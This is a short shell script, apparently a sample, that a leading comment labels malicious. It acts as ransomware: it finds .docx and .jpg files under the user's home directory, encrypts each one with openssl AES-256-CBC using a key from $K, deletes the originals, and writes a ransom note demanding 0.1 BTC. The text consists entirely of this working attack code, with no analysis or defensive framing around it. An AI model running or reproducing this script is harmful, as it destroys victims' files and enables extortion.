# malicious: encrypts the home
find "$HOME" -type f \( -name '*.docx' -o -name '*.jpg' \) -print0 | while IFS= read -r -d '' f; do
    openssl enc -aes-256-cbc -salt -in "$f" -out "$f.locked" -pass pass:"$K" && rm -f "$f"
done
echo "send 0.1 BTC" > ~/README_RESTORE.txt
